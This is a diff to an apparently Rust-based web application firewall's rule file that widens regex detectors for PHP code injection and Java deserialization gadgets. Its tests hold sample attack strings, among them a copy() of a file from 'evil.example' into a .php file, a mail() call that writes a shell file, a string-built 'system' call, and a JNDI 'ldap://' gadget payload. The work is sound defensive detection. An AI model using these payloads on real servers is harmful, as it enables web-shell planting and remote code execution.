@@ -42,7 +42,7 @@ macro_rules! php_index {
 /// `org.omg.CORBA`), not a system property (`java.io.tmpdir`).
 macro_rules! java_gadget_class {
     () => {
-        r"(?:java|javax|jdk|sun|com\.sun|org\.(?:apache|springframework|omg|codehaus|hibernate|jboss|mozilla|python)|com\.(?:mchange|alibaba|zaxxer|fasterxml))\.(?:[a-z_]\w*\.)*(?-i:[A-Z])\w*"
+        r"(?:java|javax|jdk|sun|com\.sun|org\.(?:apache|springframework|omg|codehaus|hibernate|jboss|mozilla|python|slf4j|aspectj|objectweb)|com\.(?:mchange|alibaba|zaxxer|fasterxml)|ch\.qos|oracle|br\.com\.anteros)\.(?:[a-z_]\w*\.)*(?-i:[A-Z])\w*"
     };
 }
 
@@ -80,7 +80,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             t,
             DEC,
             Regex(
-                r##"\$_(?:get|post|request|cookie|server|files|env|session)\b|\$globals\s*\[|\$http_raw_post_data|\$http_(?:get|post)_vars"##,
+                r##"\$_(?:get|post|request|cookie|server|files|env|session)\b|\$\{\s*['"]_(?:get|post|request|cookie|server|files|env|session)['"]\s*\}|\$globals\s*\[|\$http_raw_post_data|\$http_(?:get|post)_vars"##,
             ),
             "PHP superglobal",
         ),
@@ -104,7 +104,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             t,
             DEC,
             Regex(concat!(
-                r##"\b(?:phpinfo\s*\(\s*\)|(?:shell_exec|passthru|proc_open|pcntl_exec|popen|create_function|call_user_func(?:_array)?|gzinflate|gzuncompress|str_rot13|file_get_contents|file_put_contents|highlight_file|show_source|move_uploaded_file|assert|base64_decode|system|exec|eval|readfile|fopen|unlink|fsockopen|curl_exec|preg_replace|array_map|usort|ob_start|register_shutdown_function)\s*\(\s*(?:\$\w|['"`][^'"`]*['"`]\s*[),]|(?:base64_decode|gzinflate|str_rot13|chr|strrev|hex2bin)\s*\(|@?\$_))|(?:^|[^\w.>:$])(?:"##,
+                r##"\b(?:phpinfo\s*\(\s*\)|(?:shell_exec|passthru|proc_open|pcntl_exec|popen|create_function|call_user_func(?:_array)?|gzinflate|gzuncompress|str_rot13|file_get_contents|file_put_contents|highlight_file|show_source|move_uploaded_file|assert|base64_decode|system|exec|eval|readfile|fopen|unlink|fsockopen|curl_exec|preg_replace|array_map|usort|ob_start|register_shutdown_function)\s*\(\s*(?:\$\w|['"`][^'"`]*['"`]\s*[),]|(?:base64_decode|gzinflate|str_rot13|chr|strrev|hex2bin)\s*\(|@?\$_))|\bmail\s*\([^)]*['"]\s*-[xo]\s*\S|\bcopy\s*\(\s*['"](?:https?|ftps?)://[^'"]*['"]\s*,\s*['"][^'"]*\.(?:php\d?|phtml|phar)['"]|(?:^|[^\w.>:$])(?:"##,
                 php_shell_fns!(),
                 r##")\s*\(\s*(?:id|whoami|uname|ls|dir|pwd|hostname|ifconfig|ipconfig|netstat|ps|env|cat|wget|curl|nc|ncat|bash|powershell)\b|\b(?:include|require)(?:_once)?\s*\(?\s*(?:\$_|['"](?:https?|ftps?|php|data|expect|zip|phar)://|['"][^'"]*\.(?:php\d?|phtml|inc)['"])"##
             )),
@@ -122,7 +122,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             // (`pfsockopen('x', 25)`, `posix_getegid()`, `curl_init()`). A
             // method (`$c->curl_init()`, `os.posix_spawn(`) is some other code.
             Regex(
-                r##"(?:^|[^\w.>:$])(?:posix_\w+|pcntl_\w+|proc_(?:open|close|nice|terminate|get_status)|shell_exec|passthru|p?fsockopen|stream_socket_(?:client|server)|curl_(?:init|exec|multi_exec|setopt(?:_array)?)|gzuncompress|gzinflate|gzdecode|str_rot13|base64_decode|convert_uudecode|hex2bin|create_function|call_user_func(?:_array)?|file_(?:get|put)_contents|phpinfo|php_uname|phpversion|getmypid|getmyuid|getmygid|get_current_user|ini_(?:set|get|get_all|restore)|assert_options|set_time_limit|ignore_user_abort|highlight_file|show_source|move_uploaded_file|escapeshell(?:cmd|arg)|file(?:group|owner|perms|inode)|get_defined_(?:vars|functions|constants)|unserialize|parse_ini_(?:file|string)|gethostbyname|dns_get_record|mb_send_mail|register_shutdown_function|forward_static_call(?:_array)?)\s*(?:/\*[^*]*\*/\s*)*\("##,
+                r##"(?:^|[^\w.>:$])(?:posix_\w+|pcntl_\w+|proc_(?:open|close|nice|terminate|get_status)|shell_exec|passthru|p?fsockopen|stream_socket_(?:client|server)|curl_(?:init|exec|multi_exec|setopt(?:_array)?)|gzuncompress|gzinflate|gzdecode|str_rot13|base64_decode|convert_uudecode|hex2bin|create_function|call_user_func(?:_array)?|file_(?:get|put)_contents|phpinfo|php_uname|phpversion|getmypid|getmyuid|getmygid|get_current_user|ini_(?:set|get|get_all|restore)|assert_options|set_time_limit|ignore_user_abort|highlight_file|show_source|move_uploaded_file|escapeshell(?:cmd|arg)|file(?:group|owner|perms|inode)|get_defined_(?:vars|functions|constants)|unserialize|parse_ini_(?:file|string)|var_dump|var_export|print_r|debug_zval_dump|gethostbyname|dns_get_record|mb_send_mail|register_shutdown_function|forward_static_call(?:_array)?)\s*(?:/\*[^*]*\*/\s*)*\("##,
             ),
             "PHP function call of a PHP-only function",
         ),
@@ -183,6 +183,9 @@ pub(super) fn rules() -> Vec<RuleDef> {
                 // `chr` held in `$f`); an obfuscator's name of O and 0
                 // (`$OOO0000O0 (16)`); a shell function with a comment before its
                 // parentheses (`exec/*c*/()`).
+                // A name built of strings, then called through its variable
+                // (`$a = 'sys'.'tem'; $a('id');`).
+                r##"|\$[a-z_]\w*\s*=\s*['"][a-z_]{1,12}['"](?:\s*\.\s*['"][a-z_]{1,12}['"])+\s*;\s*\$[a-z_]\w*\s*\("##,
                 r##"|\$[a-z_]\w*\s*\([^()]{0,20}\)\s*\.\s*\$[a-z_]\w*\s*\(|\$(?:o+0|0+o)[o0]{3,}\s*[(\[{]|(?:^|[^\w.>:$])(?:"##,
                 php_exec_fns!(),
                 r##")\s*(?:/\*[^*]*\*/\s*)+\("##
@@ -380,9 +383,16 @@ pub(super) fn rules() -> Vec<RuleDef> {
             Critical,
             t,
             DEC,
-            Regex(
-                r##"\bro0ab[a-z0-9+/]|\baced0005[0-9a-f]|org\.apache\.commons\.collections\d*\.functors|com\.sun\.org\.apache\.xalan|org\.springframework\.beans\.factory\.config|\bysoserial\b|com\.sun\.rowset\.jdbcrowsetimpl|['"]@type['"]\s*:\s*['"](?:com|org|java|javax)\.|org\.codehaus\.groovy\.runtime|bsh\.interpreter|com\.mchange\.v2\.c3p0|\b(?:invoker|chained|constant|instantiate|clone)transformer\b|\b(?:instantiate|prototypeclone|prototypeserialization)factory\b|\b(?:for|while)closure\b"##,
-            ),
+            Regex(concat!(
+                // Jackson's typing: a gadget class as `@class` or as the first
+                // element of a `[class, {properties}]` pair.
+                r#"['"]@class['"]\s*:\s*['"]"#,
+                java_gadget_class!(),
+                r#"|\[\s*['"]"#,
+                java_gadget_class!(),
+                r#"['"]\s*,\s*[\[{]|"#,
+                r##"\bro0ab[a-z0-9+/]|\baced0005[0-9a-f]|org\.apache\.commons\.collections\d*\.functors|com\.sun\.org\.apache\.xalan|org\.springframework\.beans\.factory\.config|org\.springframework\.context\.support\.(?:classpath|filesystem)xmlapplicationcontext|java\.beans\.xmldecoder|\bysoserial\b|com\.sun\.rowset\.jdbcrowsetimpl|['"]@type['"]\s*:\s*['"](?:com|org|java|javax)\.|org\.codehaus\.groovy\.runtime|bsh\.interpreter|com\.mchange\.v2\.c3p0|\b(?:invoker|chained|constant|instantiate|clone)transformer\b|\b(?:instantiate|prototypeclone|prototypeserialization)factory\b|\b(?:for|while)closure\b"##,
+            )),
             "Java deserialization gadget: a serialized stream's header, or a gadget chain's class",
         ),
         rule(
@@ -548,6 +558,7 @@ mod tests {
             "(string) {[system][0]} ('uname');",
             "$f(101).$f(120)",
             "$OOO0000O0 (16)",
+            "$a = 'sys'.'tem'; $a('id');",
             "exec/*comment*/()",
             "exec /*comment*/ ()",
         ] {
@@ -583,6 +594,22 @@ mod tests {
         assert!(!fires(933150, "os.system(cmd)"));
         assert!(!fires(933150, "the operating system(s)"));
         assert!(!fires(933150, "$proc->exec(ls)"));
+        // Sendmail's options through mail(), a remote file copied to PHP.
+        assert!(fires(
+            933150,
+            "mail('a@b.c', 'x', 'y', '', '-X /var/www/shell.php');"
+        ));
+        assert!(fires(933150, "copy('http://evil.example/s.txt', 's.php');"));
+        assert!(!fires(933150, "mail('a@b.c', 'Subject', 'body - regards')"));
+        assert!(!fires(933150, "copy('http://a.example/x.png', 'x.png')"));
+    }
+
+    #[test]
+    fn a_superglobal_fires_also_named_by_a_string() {
+        assert!(fires(933130, "$_GET['x']"));
+        assert!(fires(933130, "${\"_GET\"}['x']"));
+        assert!(fires(933130, "${ '_SERVER' }"));
+        assert!(!fires(933130, "${get} and $getter"));
     }
 
     #[test]
@@ -592,6 +619,7 @@ mod tests {
             "posix_getegid()",
             "curl_iNit()",
             "gethostbynamE(",
+            "var_dump(scandir('.'));",
             "filegroup  (blah)",
             "x;base64_decode /*c*/ ($x)",
         ] {
@@ -617,10 +645,19 @@ mod tests {
             "ProcessBuilder.evil.clonetransformer",
             "{\"@class\": \"ChainedTransformer\", \"x\": 1}",
             "runtime.whileclosure",
+            "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"ldap://e/a\"}]",
+            "{\"@class\":\"org.apache.xbean.propertyeditor.JndiConverter\",\"asText\":\"x\"}",
+            "org.springframework.context.support.ClassPathXmlApplicationContext",
+            "<java.beans.XMLDecoder>",
         ] {
             assert!(fires(944130, a), "missed {a}");
         }
         assert!(!fires(944130, "a transformer model with a closure"));
+        assert!(!fires(
+            944130,
+            "{\"@class\":\"com.example.OrderDto\",\"id\":1}"
+        ));
+        assert!(!fires(944130, "[\"java.io.tmpdir\", {\"a\": 1}]"));
     }
 
     #[test]
